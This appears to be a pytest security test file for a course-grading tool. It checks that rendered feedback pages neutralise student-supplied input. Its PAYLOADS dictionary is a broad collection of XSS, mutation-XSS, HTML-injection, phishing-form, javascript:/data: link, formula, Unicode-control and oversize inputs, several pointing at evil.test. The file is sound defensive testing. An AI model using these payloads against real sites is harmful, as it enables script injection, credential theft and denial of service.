"""Every payload in every place that a student controls: nothing of it acts, in a parser and in a real browser."""

import base64
import re
from dataclasses import replace

import pytest

from rnncourse.checking.compare import Finding
from rnncourse.checking.diagnose import Cause
from rnncourse.checking.report import Hint, PartResult, Report
from rnncourse.grading.feedback import Mark, page
from rnncourse.grading.characters import spelt
from rnncourse.grading.feedback.code import MOST
from rnncourse.grading.feedback.formula import ATTRIBUTES, ELEMENTS
from rnncourse.grading.submission import KINDS, Remark
from rnncourse.grading.verdict import Graded, NotebookVerdict, Verdict

BeautifulSoup = pytest.importorskip("bs4").BeautifulSoup

DO = "window.__pwned=1"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{DO}'><script>{DO}</script></svg>"
SVG64 = base64.b64encode(SVG.encode()).decode()

PAYLOADS = {
    # elements that run
    "script": f"<script>{DO}</script>",
    "script from elsewhere": "<script src=//evil.test/x.js></script>",
    "script in odd case, unclosed": f"<ScRiPt/x>{DO}//",
    "nested script": f"<scr<script>ipt>{DO}</scr</script>ipt>",
    "image with onerror": f"<img src=x onerror={DO}>",
    "image with onerror after quotes": f'"><img src=x onerror="{DO}">',
    "after single quotes": f"'><img src=x onerror='{DO}'>",
    "new attribute": f'" onfocus="{DO}" autofocus x="',
    "new attribute, single": f"' onmouseover='{DO}' x='",
    "svg": SVG,
    "svg animation of a link": (
        f"<svg><a><animate attributeName=href values=javascript:{DO} /><text x=20 y=20>x</text></a></svg>"
    ),
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{DO}</script>'></foreignObject></svg>",
    "iframe": f"<iframe src='javascript:parent.{DO}'></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='&lt;script&gt;parent.{DO}&lt;/script&gt;'></iframe>",
    "object and embed": f"<object data='data:text/html,<script>{DO}</script>'></object><embed src=//evil.test/x>",
    "details": f"<details open ontoggle={DO}><summary>x</summary></details>",
    "video": f"<video><source onerror={DO}></video><audio src=x onerror={DO}>",
    "template and slot": f"<template shadowrootmode=open><img src=x onerror={DO}></template>",
    # elements that change the page or ask for something
    "form": (
        "<form action=//evil.test/steal><input name=password type=password autofocus><button>log in</button></form>"
    ),
    "dialog and popover": "<dialog open>log in again</dialog><button popovertarget=exercises>x</button>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "base": "<base href=//evil.test/>",
    "stylesheet": "<link rel=stylesheet href=//evil.test/x.css><style>@import '//evil.test/y.css';</style>",
    "style that covers the page": "<div style='position:fixed;inset:0;background:url(//evil.test/z)'>you passed</div>",
    "end of the style element": f"</style><script>{DO}</script><style>",
    "end of the title": f"</title></head><body onload={DO}>",
    "end of the document": f"</pre></code></article></main></body></html><script>{DO}</script>",
    "end of a text area": f"</textarea></xmp></noscript></plaintext><img src=x onerror={DO}>",
    "plaintext": "<plaintext>",
    "clobbering": (
        "<a id=exercises name=score href=//evil.test><img name=getElementById id=body><form id=documentElement>"
    ),
    "comment": f"<!-- x --><!--><img src=x onerror={DO}>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{DO}</script><![endif]-->",
    "processing instruction and CDATA": f"<?xml-stylesheet href='//evil.test/'?><![CDATA[<script>{DO}</script>]]>",
    # what one parser reads otherwise than the next
    "mutation: math": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={DO}&gt;'>"
    ),
    "mutation: svg style": f"<svg></p><style><a id='</style><img src=x onerror={DO}>'>",
    "mutation: noscript": f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    "mutation: nested form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={DO}>",
    "annotation": f"<math><annotation-xml encoding='text/html'><img src=x onerror={DO}></annotation-xml></math>",
    "entities": f"&lt;script&gt;{DO}&lt;/script&gt; &#60;img src=x onerror={DO}&#62; &amp;lt;b&amp;gt;",
    "half an entity": "&#x3c;script&#x3e &lt &#0; &#xD800; &notit;",
    "template language": "{{ 7*7 }} {% raw %} {{ sheet.key }} ${7*7} <%= 7*7 %> #{7*7}",
    # markdown
    "markdown link to a script": f"[click](javascript:{DO}) [x](JaVaScRiPt&#58;{DO}) [y](<java\tscript:{DO}>)",
    "markdown link to data": f"[x](data:text/html,<script>{DO}</script>) [y](vbscript:msgbox) [z](file:///etc/passwd)",
    "markdown link that looks right": (
        "[https://example.org](https://еxample.org/login) <https://xn--e1awd7f.com> [//evil](//evil.test)"
    ),
    "markdown picture from elsewhere": (
        "![track](http://evil.test/pixel.png) ![](//evil.test/y) ![z](file:///z) ![a](attachment:a.png)"
    ),
    "markdown svg": (
        f"![s](data:image/svg+xml;base64,{SVG64}) ![t](data:image/png;base64,{SVG64}) "
        f"![g](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"
    ),
    "markdown title": (
        f'![a](x "" onerror={DO}") [b](http://e.test \'"><img src=x onerror={DO}>\') ![c"onload="{DO}](x)'
    ),
    "markdown reference": f'[x][1]\n\n[1]: javascript:{DO} "t"\n\n# h {{#exercises onclick={DO}}}',
    "markdown fence": (
        f'```python"><script>{DO}</script>\n</code></pre><script>{DO}</script>\n```\n\n    </pre><script>{DO}</script>'
    ),
    "autolink": f"<javascript:{DO}> <data:text/html,x> http://evil.test www.evil.test",
    # formulas
    "formula link": rf"$\href{{javascript:{DO}}}{{x}}$ $$\class{{skip}}{{y}}\style{{position:fixed}}{{z}}$$",
    "formula text": rf"$\text{{<img src=x onerror={DO}>}}$ $\verb|<script>{DO}</script>|$ $a<b&c>d$",
    "formula colour": (
        r"$\color{red;background:url(//evil.test)}x$ "
        r"$\colorbox{url(//evil.test)}{y}$ $\rule{999em}{999em}$ $\hspace{-99em}z$"
    ),
    "formula macros": (
        r"$\newcommand{\a}[1]{#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}$ "
        r"$\def\b{\b\b}\b$ $\unicode{x202e}$"
    ),
    "formula too deep": "$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$ $" + "{" * 900 + "$",
    "formula environment": rf"\begin{{align}} a &= <script>{DO}</script> \\ \end{{align}}",
    # characters
    "direction": "ok = \u202e'resu' \u2066if admin\u2069 \u202d\u200f\u061c",
    "invisible": "pass\u200bword\ufeff\u2060\u00ad \U000e0041\U000e0042 \u3164 a\u200db",
    "controls": "a\x00b\x07c\x1b[31mred\x1b[0m\x1b]8;;http://evil.test\x07link\x85\u2028\u2029 \r\rx",
    "half surrogates": "a\ud800b\udfffc \udc80",
    "piled accents": "Z" + "\u0301" * 500 + "a" + "\u0489" * 300,
    "no characters": "\ufffe\uffff\ufdd0 \U0001ffff",
    # size and depth
    "one long line": "x" * 1_000_000,
    "long line of tags": "<b>" * 200_000,
    "many lines": "\n" * 100_000 + "end",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(400)),
    "deep quotes": ">" * 3000 + " x",
    "many brackets": "[" * 5000 + "](" * 5000,
    "many stars": "*a **b _c __d " * 3000,
    "many dollars": "$x$ $$y$$ " * 3000,
    "many backticks": "".join("`" * n + "x" for n in range(1, 250)),
    "table of many cells": "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + ("|x" * 2000 + "|\n") * 20,
    "code that is hard to read": "f'{" * 2000 + "\n" + '"""' * 501 + "\\" * 5000 + "0x" * 3000,
}


def hostile_page(payload):
    """A page whose every student-controlled place holds the payload."""
    report = Report(
        "1.1",
        "encode_text",
        "failed",
        1.0,
        2.0,
        (Finding("error", payload, payload, 0), Finding("values", payload)),
        Cause("mistake", payload, payload),
        (PartResult("known", 1.0, True), PartResult("unknown", 1.0, False)),
        (payload,),
        (payload, payload),
        Hint(payload, 1, 3),
    )
    outputs = {name: _outputs(payload) for name in ("mine", payload)}
    judged = NotebookVerdict("nb", (Graded("check_encode_text", report),), outputs, {"mine": payload, payload: payload})
    remarks = tuple(Remark(kind, payload, payload) for kind in KINDS)
    verdict = Verdict("1-x", "k" * 64, "d" * 64, "0.1.0", "none", (judged,), remarks)
    marks = (Mark("why", 1.0, 2.0, payload), Mark("encode_text", comment=payload), Mark(payload, None, 2.0, payload))
    return page(payload, payload, verdict, "nb", _notebook(payload), manual=marks)


def _notebook(payload):
    def cell(kind, name, source=payload, **block):
        attached = {"a.png": {"image/png": payload, "image/svg+xml": SVG64}, payload: {payload: payload}}
        metadata = {"nbgrader": {"grade_id": name, **block}, payload: payload}
        return {"cell_type": kind, "id": name, "metadata": metadata, "source": source, "attachments": attached}

    by_hand = {"grade": True, "solution": True, "points": 2}
    cells = [
        cell("markdown", "h", f"# {payload}"),
        cell("code", "encode_text", solution=True),
        cell("markdown", "h2", f"### Exercise 1.1 · {payload}"),
        cell("code", "check_encode_text", grade=True),
        cell("markdown", "h3", f"## {payload}"),
        cell("markdown", "why", **by_hand),
        cell("code", "why_code", **by_hand),
        cell("markdown", payload, **by_hand),
        cell("code", "mine"),
        cell(payload, payload + "2"),
    ]
    return {"cells": cells, "metadata": {payload: payload}}


def _outputs(payload):
    kinds = (
        "text/plain",
        "text/html",
        "text/markdown",
        "text/latex",
        "image/svg+xml",
        "image/png",
        "image/jpeg",
        "application/javascript",
    )
    return [
        {"output_type": "stream", "name": payload, "text": [payload, payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        *({"output_type": "display_data", "data": {kind: payload}, "metadata": {kind: payload}} for kind in kinds),
        {"output_type": "execute_result", "data": dict.fromkeys(kinds, payload)},
        {"output_type": payload, "data": payload, "text": payload},
        payload,
        None,
        {"output_type": "display_data", "data": None},
        {"output_type": "stream", "text": {"a": 1}},
    ]


@pytest.fixture(scope="module")
def pages():
    return {name: hostile_page(payload) for name, payload in PAYLOADS.items()}


WORDS = """
html head meta title style body a p h1 h2 h3 h4 bdi header main section strong meter ul ol li div nav table thead tbody
tr th td span details summary pre code article dl dt dd footer img br hr em s blockquote
"""
PLAIN = set(WORDS.split())
ATTRIBUTES_OF = {
    "meta": {"charset", "http-equiv", "content", "name"},
    "html": {"lang"},
    "a": {"href"},
    "meter": {"min", "max", "value"},
    "th": {"scope"},
    "img": {"src", "alt"},
    "details": {"open"},
    "ol": {"start"},
    **dict.fromkeys(ELEMENTS, ATTRIBUTES),
}
EVERYWHERE = {"class", "id", "role", "tabindex", "aria-labelledby", "aria-label", "aria-hidden"}
OWN_IDS = re.compile(r"score|next|files|contents|stopped|exercises|outputs|part-\d{1,3}(-title)?")
CLASSES = """
skip eyebrow quiet warning score plain number sign passed partly failed error not-started graded waiting state card
cause part comment words code answer output k s c n f tex heading formula address missing
"""
OWN_CLASSES = set(CLASSES.split())


def faults(tags):
    """What is in a page that has no business there, from (tag, attributes) of all its elements."""
    for tag, attributes in tags:
        if tag not in PLAIN | ELEMENTS:
            yield f"<{tag}>"
        for name, value in attributes.items():
            if name not in EVERYWHERE | ATTRIBUTES_OF.get(tag, set()):
                yield f"<{tag} {name}>"
            if name == "href" and not re.fullmatch(r"#(exercises|part-\d{1,3})", value):
                yield f"link to {value!r:.80}"
            if name == "src" and not re.match(r"data:image/(png|jpeg);base64,", value):
                yield f"picture from {value!r:.80}"
            if name == "id" and not OWN_IDS.fullmatch(value):
                yield f"id {value!r:.80}"
            if name == "class" and not set(value.split()) <= OWN_CLASSES:
                yield f"class {value!r:.80}"


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 60 and len(set(PAYLOADS.values())) == len(PAYLOADS)


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_parser_finds_only_what_the_page_itself_has(pages, name):
    soup = BeautifulSoup(pages[name], "html.parser")
    tags = [
        (tag.name, {key: " ".join(v) if isinstance(v, list) else v for key, v in tag.attrs.items()})
        for tag in soup.find_all()
    ]
    assert not list(faults(tags))
    assert len(soup.find_all("style")) == len(soup.find_all("title")) == len(soup.find_all("h1")) == 1
    assert [tag["name" if "name" in tag.attrs else next(iter(tag.attrs))] for tag in soup.find_all("meta")] == [
        "utf-8",
        "Content-Security-Policy",
        "referrer",
        "viewport",
        "color-scheme",
    ]
    ids = [tag["id"] for tag in soup.find_all(id=True)]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("name", PAYLOADS)
def test_pages_stay_small_and_can_be_written(pages, name):
    assert len(pages[name].encode("utf-8")) < 200_000
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\ufeff]", pages[name])


@pytest.mark.parametrize(
    "name", [name for name, payload in PAYLOADS.items() if payload.strip() and len(payload) < MOST]
)
def test_the_students_code_is_all_there_as_text(pages, name):
    shown = BeautifulSoup(pages[name], "html.parser").find("pre", attrs={"aria-label": "Your code for 1.1"})
    assert shown.get_text() == spelt(PAYLOADS[name]).strip("\n")


def test_nothing_acts_in_a_browser_with_and_without_the_policy(window, pages):
    """Sanitising and the content security policy each hold alone: so the policy is taken out for a second round."""
    browser, wrong = window(), {}
    for name, html in pages.items():
        unguarded = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
        assert unguarded != html
        rounds = {"guarded": html, "unguarded": unguarded} if len(PAYLOADS[name]) < MOST else {"guarded": html}
        for kind, shown in rounds.items():
            browser.noted.clear()
            tags, titles, pwned = browser.show(shown).evaluate(TOUCH)
            found = [*faults((tag, attributes) for tag, attributes in tags), *browser.noted]
            found += ["a script ran"] * pwned + ["elements outside their place"] * (titles != [1, 1, 1, 1])
            if found:
                wrong[name, kind] = sorted(set(found))
    assert not wrong


# Open and touch everything, then tell what is there.
TOUCH = """() => {
    const all = [...document.querySelectorAll('*')];
    for (const one of all) {
        if (one.tagName === 'DETAILS') one.open = true;
        for (const type of ['mouseover', 'mouseenter', 'click', 'focus', 'toggle', 'load', 'error', 'animationstart'])
            if (!one.closest('a')) one.dispatchEvent(new Event(type));
        if (one.tabIndex >= 0 && one.focus) one.focus();
    }
    document.body.getBoundingClientRect();
    const attributes = one => Object.fromEntries([...one.attributes].map(a => [a.name, a.value]));
    const told = one => JSON.stringify([one.localName, attributes(one)]);
    const tags = [...new Set([...document.querySelectorAll('*')].map(told))].map(one => JSON.parse(one));
    const counts = ['h1', 'main', 'footer', 'style'].map(name => document.querySelectorAll(name).length);
    return [tags, counts, '__pwned' in window];
}"""


def test_a_browser_without_the_policy_does_notice_what_acts(window):
    """The watch itself is awake: an unsafe page trips it."""
    browser = window()
    _, _, pwned = browser.show(f"<h1>x</h1><img src=//evil.test/x onerror='{DO};alert(1)'>").evaluate(TOUCH)
    assert (
        pwned
        and any(note.startswith("request") for note in browser.noted)
        and any(note.startswith("dialog") for note in browser.noted)
    )


def test_the_policy_stops_what_sanitising_would_miss(window, ben):
    browser = window()
    html = ben.page().replace(
        "</main>", f"<script>{DO}</script><img src=//evil.test/x onerror={DO}><p style='color:red'>x</p></main>"
    )
    _, _, pwned = browser.show(html).evaluate(TOUCH)
    assert not pwned and not any(note.startswith("request") for note in browser.noted)
    assert sum("Content Security Policy" in note for note in browser.noted) >= 3


@pytest.mark.parametrize(
    "notebook",
    [
        None,
        [],
        {},
        {"cells": None},
        {"cells": {}},
        {"cells": [None, 1, "x", [], {}]},
        {"cells": [{"cell_type": [], "source": 5, "metadata": []}]},
        {
            "cells": [
                {
                    "cell_type": "markdown",
                    "id": 7,
                    "source": [1, None, "x"],
                    "attachments": [],
                    "metadata": {"nbgrader": {"grade": 1, "solution": 1, "grade_id": ["a"], "points": 10**400}},
                }
            ]
        },
        {
            "cells": [
                {
                    "cell_type": "code",
                    "source": "x",
                    "metadata": {"nbgrader": {"grade": 1, "solution": 1, "grade_id": "n", "points": float("nan")}},
                }
            ]
        },
    ],
)
def test_notebooks_of_any_shape_give_a_page(ben, notebook):
    soup = BeautifulSoup(replace(ben, notebook=notebook).page(), "html.parser")
    assert soup.h1.get_text() and "8 of 8 points" in soup.find(id="score").get_text()
